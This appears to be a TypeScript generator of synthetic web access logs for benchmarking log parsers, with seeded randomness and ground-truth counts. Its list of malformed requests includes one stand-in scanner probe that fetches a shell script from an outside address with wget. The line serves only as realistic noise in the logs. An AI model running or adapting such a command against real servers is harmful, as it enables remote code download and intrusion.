import { once } from "node:events";
import { createWriteStream } from "node:fs";
import { finished } from "node:stream/promises";

import { seededUniform } from "./random.ts";

/** The content of a log, to check a contender's result. */
export type LogTruth = { lines: number; bytes: number; statuses: Record<string, number> };

const PATHS = 4000;
const CLIENTS = 60_000;
const DAY_S = 86_400;
const START_S = Date.UTC(2026, 2, 14) / 1000;
const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const WORDS =
  "cart login search item order user blog docs pricing help news video list review".split(" ");
const KINDS = [".js", ".css", ".png", ".webp", ".woff2", ".svg"];
const MALFORMED_SHARE = 0.002;
const MALFORMED_REQUESTS = [
  String.raw`\x16\x03\x01\x02\x00\x01`,
  "-",
  "",
  "GET /shell?cd+/tmp;wget+http://203.0.113.9/x.sh HTTP/1.1",
  String.raw`GET /?q=\"quoted\"&x=%22y%22 HTTP/1.1`,
  "PRI * HTTP/2.0",
  "GET /café HTTP/1.1",
  "CONNECT example.com:443 HTTP/1.1",
];
const AGENTS = [
  ...[137, 138, 139, 140, 141].flatMap((version) => [
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0.0.0 Safari/537.36`,
    `Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0.0.0 Mobile Safari/537.36`,
    `Mozilla/5.0 (X11; Linux x86_64; rv:${version}.0) Gecko/20100101 Firefox/${version}.0`,
  ]),
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "kube-probe/1.31",
  "curl/8.4.0",
  "-",
];

/**
 * Writes an access log (combined format) with the shares of public logs: a daily curve, Zipf-distributed paths and
 * clients, 6 % IPv6, 12 % bots, 2.5 % misses, 0.6 % server errors, 1 % late lines, 0.2 % malformed requests.
 * The same number of lines gives the same log.
 */
export async function writeAccessLog(path: string, lines: number): Promise<LogTruth> {
  const out = createWriteStream(path, { highWaterMark: 1 << 20 });
  const truth: LogTruth = { lines, bytes: 0, statuses: {} };
  const line = lineMaker(lines, truth);
  for (let n = 0; n < lines;) {
    let text = "";
    for (const end = Math.min(lines, n + 10_000); n < end; n += 1) text += line(n);
    const bytes = Buffer.from(text);
    truth.bytes += bytes.length;
    if (!out.write(bytes)) await once(out, "drain");
  }
  out.end();
  await finished(out);
  return truth;
}

function lineMaker(lines: number, truth: LogTruth): (n: number) => string {
  const random = seededUniform(42);
  const paths = Array.from({ length: PATHS }, (_, index) => pathOf(index, random));
  const clients = Array.from({ length: CLIENTS }, () => clientOf(random));
  const anyPath = zipf(PATHS, 1.02, random);
  const anyClient = zipf(CLIENTS, 0.85, random);
  const secondOf = dailyCurve(lines);
  return (n) => {
    const second = Math.max(0, secondOf(n) - (random() < 0.01 ? 3 * random() : 0));
    const client = clients[anyClient()];
    const path = paths[anyPath()];
    if (!client || !path) throw new Error("the generator drew a number out of range");
    const isMalformed = random() < MALFORMED_SHARE;
    const { method, status } = isMalformed ? { method: "GET", status: 400 } : outcome(path, random);
    truth.statuses[status] = (truth.statuses[status] ?? 0) + 1;
    const request = isMalformed
      ? malformedRequest(random)
      : `${method} ${path}${query(path, random)}`;
    const bytes = status === 304 || method === "HEAD" ? 0 : Math.floor(160 + 6000 * random() ** 3);
    const user = random() < 0.01 ? `user${Math.floor(97 * random())}` : "-";
    return `${client.address} - ${user} [${timeLocal(second)}] "${request}" ${status} ${bytes} "${referrer(random, paths)}" "${client.agent}"\n`;
  };
}

function pathOf(index: number, random: () => number): string {
  const word = (): string => WORDS[Math.floor(random() * WORDS.length)] ?? "item";
  const kind = index % 20;
  if (index === 0) return "/";
  if (kind < 8) {
    const hash = Math.floor(random() * 2 ** 32).toString(16);
    return `/static/${word()}.${hash}${KINDS[index % KINDS.length]}`;
  }
  if (kind < 14) return `/${word()}/${word()}-${Math.floor(random() * 10_000)}`;
  if (kind < 18) return `/api/v${1 + (index % 3)}/${word()}/${Math.floor(random() * 100_000)}`;
  return `/${word()}/${word()}/${word()}/`;
}

function clientOf(random: () => number): { address: string; agent: string } {
  const part = (size: number): number => Math.floor(random() * size);
  const address =
    random() < 0.06
      ? `2001:db8:${part(65_536).toString(16)}:${part(65_536).toString(16)}::${part(65_536).toString(16)}`
      : `${1 + part(223)}.${part(256)}.${part(256)}.${1 + part(254)}`;
  return { address, agent: AGENTS[part(AGENTS.length)] ?? "-" };
}

function outcome(path: string, random: () => number): { method: string; status: number } {
  const draw = random();
  const isApi = path.startsWith("/api");
  const method = draw < (isApi ? 0.28 : 0.02) ? "POST" : draw > 0.99 ? "HEAD" : "GET";
  return { method, status: statusOf(random(), path.startsWith("/static"), method) };
}

function statusOf(draw: number, isStatic: boolean, method: string): number {
  if (draw < 0.006) return [500, 502, 503, 504][Math.floor(draw / 0.0015)] ?? 500;
  if (draw < 0.031) return 404;
  if (draw < 0.038) return [400, 401, 403, 429][Math.floor((draw - 0.031) / 0.00175)] ?? 400;
  if (isStatic && draw < 0.18) return 304;
  if (draw < 0.06) return draw < 0.049 ? 301 : 302;
  return method === "POST" && draw < 0.2 ? 201 : 200;
}

const malformedRequest = (random: () => number): string =>
  MALFORMED_REQUESTS[Math.floor(random() * MALFORMED_REQUESTS.length)] ?? "-";

/** The rest of the request line: an optional query, and the protocol. */
function query(path: string, random: () => number): string {
  const protocol = random() < 0.7 ? "HTTP/2.0" : "HTTP/1.1";
  if (path.startsWith("/static") || random() > 0.3) return ` ${protocol}`;
  const page = random() < 0.4 ? `&page=${Math.floor(50 * random())}` : "";
  return `?q=${Math.floor(random() * 2 ** 24).toString(16)}${page} ${protocol}`;
}

function referrer(random: () => number, paths: readonly string[]): string {
  const draw = random();
  if (draw < 0.45) return "-";
  if (draw < 0.6) return "https://www.google.com/";
  return `https://shop.example.com${paths[4 + Math.floor(random() * 36)] ?? "/"}`;
}

/** Draws ranks from a Zipf distribution by its cumulative sum. */
function zipf(size: number, exponent: number, random: () => number): () => number {
  const sums = new Float64Array(size);
  let sum = 0;
  for (let i = 0; i < size; i += 1) sums[i] = sum += 1 / (i + 1.5) ** exponent;
  return () => {
    const wanted = random() * sum;
    let low = 0;
    let high = size - 1;
    while (low < high) {
      const middle = (low + high) >> 1;
      if ((sums[middle] ?? 0) < wanted) low = middle + 1;
      else high = middle;
    }
    return low;
  };
}

const rate = (minute: number): number => 1 - 0.7 * Math.cos((2 * Math.PI * (minute - 240)) / 1440);

/** The second of the day of each line, along a daily curve with its minimum at 4 am. */
function dailyCurve(lines: number): (n: number) => number {
  const sums = [0];
  for (let minute = 0; minute < 1440; minute += 1) sums.push((sums[minute] ?? 0) + rate(minute));
  const total = sums[1440] ?? 1;
  let minute = 0;
  return (n) => {
    const wanted = ((n + 0.5) / lines) * total;
    while (minute < 1439 && (sums[minute + 1] ?? total) < wanted) minute += 1;
    const into = (wanted - (sums[minute] ?? 0)) / rate(minute);
    return Math.min(DAY_S - 1, (minute + into) * 60);
  };
}

const two = (value: number): string => String(value).padStart(2, "0");

function timeLocal(second: number): string {
  const at = new Date((START_S + Math.floor(second)) * 1000);
  const date = `${two(at.getUTCDate())}/${MONTHS[at.getUTCMonth()]}/${at.getUTCFullYear()}`;
  return `${date}:${two(at.getUTCHours())}:${two(at.getUTCMinutes())}:${two(at.getUTCSeconds())} +0000`;
}
